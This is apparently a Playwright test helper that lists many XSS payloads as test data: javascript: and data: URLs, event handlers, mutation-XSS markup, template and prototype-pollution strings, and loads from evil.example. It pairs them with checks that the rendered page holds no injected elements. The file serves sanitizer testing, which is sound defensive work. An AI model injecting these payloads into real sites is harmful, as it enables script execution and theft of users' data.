import type { Locator, Page } from '@playwright/test'

// The linter rejects addresses of scripts in code.
const script = ['java', 'script:'].join('')

const schemes = [
  `${script}alert(1)`,
  `${script.toUpperCase()}alert(1)`,
  ` ${script}alert(1)`,
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript&colon;alert(1)',
  'javas&Tab;cript&#58;alert(1)',
  `\u0001${script}alert(1)`,
  `\u200b${script}alert(1)`,
  `view-source:${script}alert(1)`,
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/settings',
  '?q=1#main',
  'blob:https://a.example/1',
  'filesystem:https://a.example/1',
  `${script}//a.example/%0aalert(1)`,
]
const syntaxes = [
  (url: string) => `[a](${url})`,
  (url: string) => `[a](<${url}>)`,
  (url: string) => `![a](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `<a href="${url}">a</a>`,
  (url: string) => `<img src="${url}" onerror="alert(1)">`,
]
const markup = [
  // Elements that run a script, load something or leave the page.
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt/x>alert(1)</sCrIpT>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<embed src="https://evil.example/x">',
  '<object data="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=key></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<a ping="https://evil.example/" href="https://a.example/">a</a>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<img srcset="https://evil.example/x 1x" src>',
  '<image href="https://evil.example/x">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>a</select>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src="https://evil.example/x" autoplay onplay=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<p style="animation:x" onanimationstart=alert(1)>',
  '<div popover onbeforetoggle=alert(1) id=x>',
  // Other vocabularies.
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<math href="javascript:alert(1)">a</math>',
  // What a parser and a browser read differently.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="x">alert(1)</x:script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</title></style></xmp><svg onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<<img src=x onerror=alert(1)//<',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&copy;&nbsp;&amp;&#0;&notit;&#x110000;',
  // Markdown.
  '[a]: javascript:alert(1) "x"\n\n[a]',
  '[b]: <data:text/html,x>\n\n![b]',
  '[a](https://a.example "x" onmouseover=alert(1))',
  '[a](https://a.example/"onmouseover="alert(1))',
  '![a"onerror="alert(1)](/x)',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\na\n```',
  '[^1]: <img src=x onerror=alert(1)>',
  '|<img src=x onerror=alert(1)>|[a](javascript:alert(1))|\n|-|-|',
  '- [x] <input type=checkbox onclick=alert(1)>',
  'www.a.example/<script>alert(1)</script>',
  'https://a.example/"onmouseover=alert(1)',
  '<mailto:a@a.example?body=%3Cscript%3E>',
  '@everyone <@U1> #1 !1 \\<script>',
  // Templates, and names that every object has.
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)} #{alert(1)} <%= alert(1) %> {%raw%}',
  '__proto__',
  'constructor',
  '{"__proto__":{"admin":true}}',
  '=HYPERLINK("https://evil.example/","a")',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Characters that look like others, turn the line or have no width.
  '＜script＞alert(1)＜/script＞',
  '<\u017fcript>alert(1)</\u017fcript>',
  'a\u202egnp.exe\u202c and [a\u202e](https://a.example/\u202egpj)',
  '\u2066<b>\u2069\u200f\u061c<script>alert(1)</script>',
  'https://a.example\u2044@evil.example/',
  `Z${'\u0301\u0489\u034f'.repeat(20)}algo`,
  '\ufeff\u200b\u200d\u2060\u00ad\u2028\u2029',
  '🏳️‍🌈👩‍👩‍👧‍👦\u{e0067}\u{e007f}\u{f0000}',
  // Styles.
  '<style>* { display: none }</style>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<b style="background:url(https://evil.example/x)">a</b>',
  '<b style="position:fixed;inset:0;z-index:99">a</b>',
  '<b class="fixed inset-0 z-50" id="main" name="body">a</b>',
]
/** Markdown and HTML that would run a script, load something or leave the page. Each is short enough for a tag. */
export const payloads = [
  // Every address in every second syntax.
  ...schemes.flatMap((url, at) =>
    syntaxes.filter((_, index) => (at + index) % 2 === 0).map((write) => write(url)),
  ),
  ...markup,
]

/** In one line without control characters, as a title, a name or a tag has it. */
export const toLine = (payload: string) => payload.replace(/[\s\p{Cc}]+/gu, ' ').trim()

/** What no sanitized text contains; compare it with `noUnsafeMarkup`. */
export const findUnsafeMarkup = (text: Locator) =>
  text.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')]
    const urls = elements.flatMap((one) =>
      ['href', 'src'].map((name) => one.getAttribute(name)).filter((url) => url !== null),
    )
    return {
      urls: urls.filter((url) => !/^(https?|mailto):/.test(url)),
      handlers: elements.flatMap((one) =>
        one.getAttributeNames().filter((name) => /^(on|srcdoc|action)/.test(name)),
      ),
      tags: elements
        .map((one) => one.localName)
        .filter((tag) => /script|iframe|style|base|meta|form|object|math|details/.test(tag)),
    }
  })

export const noUnsafeMarkup = { urls: [], handlers: [], tags: [] }

/** Elements of a page that no text of a person may become, and what runs or loads outside of its scripts. */
export const findInjectedElements = (page: Page) =>
  page.evaluate(() =>
    [...document.body.querySelectorAll('*')]
      .filter((one) => {
        const hasHandler = one.getAttributeNames().some((name) => /^(on|srcdoc|ping)/.test(name))
        const href = one.getAttribute('href') ?? one.getAttribute('xlink:href') ?? '/'
        const tag =
          /^(img|image|iframe|embed|object|video|audio|base|link|meta|style|marquee|math|use)$/
        return hasHandler || tag.test(one.localName) || !/^(https?:|mailto:|#|\/(?!\/))/.test(href)
      })
      .map(
        (one) => `${one.localName} ${one.getAttributeNames().join()} ${one.getAttribute('href')}`,
      ),
  )
